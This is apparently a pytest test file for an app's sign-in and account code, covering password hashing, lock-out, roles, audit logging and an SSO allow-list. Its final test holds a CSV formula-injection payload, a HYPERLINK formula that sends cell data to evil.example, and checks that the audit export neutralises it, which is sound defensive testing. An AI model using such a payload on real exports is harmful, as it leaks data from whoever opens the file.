"""Accounts, roles, sign-in, lock-out and the single sign-on allow-list."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlmodel import select

from engagement.auth import (
    NOT_RECOGNISED,
    AccountError,
    SignInError,
    active_user,
    create_user,
    list_users,
    parse_sso_allow_list,
    set_disabled,
    set_roles,
    sign_in,
    sso_user,
)
from engagement.models import AuditEvent, UserAccount, utc_now

PASSWORD = "correct horse battery"
ADMIN = {"actor": "test admin", "via": "test"}


def test_a_user_signs_in_with_the_right_password_and_holds_several_roles(session):
    create_user(session, "Asha", PASSWORD, ["analyst", "comms"], **ADMIN)
    stored = session.exec(select(UserAccount)).one()
    assert stored.username == "asha" and PASSWORD not in stored.password_hash
    assert stored.password_hash.startswith("$argon2id$")
    user = sign_in(session, "asha", PASSWORD, via="test")
    assert user.roles == {"analyst", "comms"} and user.has_any("comms") and not user.has_any("admin")


@pytest.mark.parametrize(("username", "password", "roles", "field"), [
    ("x", PASSWORD, ["admin"], "Username"),
    ("bob", "short", ["admin"], "Password"),
    ("bob", PASSWORD, [], "Roles"),
    ("bob", PASSWORD, ["superuser"], "Roles"),
])
def test_bad_user_details_are_refused_naming_the_field(session, username, password, roles, field):
    with pytest.raises(AccountError, match=f"^{field}"):
        create_user(session, username, password, roles, **ADMIN)
    assert session.exec(select(UserAccount)).all() == []


def test_wrong_password_and_unknown_user_get_the_same_message(session):
    create_user(session, "asha", PASSWORD, ["analyst"], **ADMIN)
    messages = []
    for username in ("asha", "nobody"):
        with pytest.raises(SignInError) as caught:
            sign_in(session, username, "wrong password!", via="test")
        messages.append(str(caught.value))
    assert messages == [NOT_RECOGNISED, NOT_RECOGNISED]


def test_repeated_failures_slow_down_then_lock_the_same_way_whether_or_not_the_user_exists(session):
    create_user(session, "asha", PASSWORD, ["analyst"], **ADMIN)
    transcripts = {}
    for username in ("asha", "nobody"):
        now, said = utc_now(), []
        for _ in range(8):
            try:
                sign_in(session, username, "wrong password!", via="test", now=now)
            except SignInError as exc:
                said.append(str(exc))
            now += timedelta(seconds=1)
        transcripts[username] = said
    assert transcripts["asha"] == transcripts["nobody"]
    said = transcripts["asha"]
    assert said[:2] == [NOT_RECOGNISED] * 2
    assert "Try again in 4 seconds" in said[3]  # the third failure made the next attempt wait 5 s; 1 s passed


def test_the_lock_out_comes_after_six_failures_spaced_out_and_holds_even_for_the_right_password(session):
    create_user(session, "asha", PASSWORD, ["analyst"], **ADMIN)
    start = now = utc_now()
    said = []
    for _ in range(6):
        with pytest.raises(SignInError) as caught:
            sign_in(session, "asha", "wrong password!", via="test", now=now)
        said.append(str(caught.value))
        now += timedelta(minutes=2)
    assert "locked for 15 minutes" in said[-1] and "locked" not in said[-2]
    with pytest.raises(SignInError, match="Try again in 15 minutes"):
        sign_in(session, "asha", PASSWORD, via="test", now=now - timedelta(minutes=2))
    later = start + timedelta(minutes=40)
    assert sign_in(session, "asha", PASSWORD, via="test", now=later).username == "asha"


def test_a_disabled_user_cannot_sign_in_and_a_signed_in_one_loses_access(session):
    create_user(session, "vol", PASSWORD, ["volunteer"], **ADMIN)
    assert active_user(session, "vol") is not None
    set_disabled(session, "vol", True, **ADMIN)
    assert active_user(session, "vol") is None
    with pytest.raises(SignInError, match="disabled"):
        sign_in(session, "vol", PASSWORD, via="test")
    set_disabled(session, "vol", False, **ADMIN)
    assert sign_in(session, "vol", PASSWORD, via="test").roles == {"volunteer"}


def test_role_changes_apply_at_once_and_are_listed(session):
    create_user(session, "vol", PASSWORD, ["volunteer"], **ADMIN)
    set_roles(session, "vol", ["analyst", "volunteer"], **ADMIN)
    assert active_user(session, "vol").roles == {"analyst", "volunteer"}
    assert list_users(session)[0]["roles"] == "analyst, volunteer"
    with pytest.raises(AccountError, match="no user called"):
        set_roles(session, "ghost", ["admin"], **ADMIN)


def test_sign_ins_and_user_changes_are_audited_without_passwords(session):
    create_user(session, "asha", PASSWORD, ["analyst"], **ADMIN)
    sign_in(session, "asha", PASSWORD, via="sign-in page")
    with pytest.raises(SignInError):
        sign_in(session, "asha", "wrong password!", via="sign-in page")
    events = session.exec(select(AuditEvent).order_by(AuditEvent.id)).all()
    assert [e.action for e in events] == ["user_created", "sign_in", "sign_in_failed"]
    assert events[1].actor == "asha" and events[1].via == "sign-in page"
    assert not any(PASSWORD in (e.details or "") or "wrong password" in (e.details or "") for e in events)


def test_single_sign_on_maps_allowed_emails_to_roles_and_refuses_the_rest():
    allow = parse_sso_allow_list({"Asha.Patel@nhs.net": ["analyst", "comms"], "lee@nhs.net": "admin"})
    user = sso_user({"email": "asha.patel@NHS.net", "email_verified": True}, allow)
    assert user.username == "asha.patel@nhs.net" and user.roles == {"analyst", "comms"} and user.via == "sso"
    assert sso_user({"email": "lee@nhs.net"}, allow).roles == {"admin"}
    assert sso_user({"email": "stranger@nhs.net"}, allow) is None
    assert sso_user({"email": "lee@nhs.net", "email_verified": False}, allow) is None
    assert sso_user({}, allow) is None
    with pytest.raises(AccountError, match="lee@nhs.net"):
        parse_sso_allow_list({"lee@nhs.net": ["boss"]})


def test_a_username_typed_as_a_formula_is_harmless_in_the_downloaded_audit_log(session):
    """Found when this was tried: anyone can type a spreadsheet formula as the username on the sign-in page; the
    failed sign-in records it, and the administrator's audit-log CSV carried it as a live formula."""
    import csv
    import io

    from engagement.audit import audit_csv_bytes, audit_events

    typed = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
    with pytest.raises(SignInError):
        sign_in(session, typed, "wrong password!", via="test")
    rows = list(csv.DictReader(io.StringIO(audit_csv_bytes(audit_events(session.get_bind())).decode("utf-8-sig"))))
    failed = [row for row in rows if row["action"] == "sign_in_failed"]
    assert failed and all(not row[column].startswith(("=", "+", "-", "@")) for row in failed for column in row)
    assert failed[0]["actor"] == "'" + typed.lower()
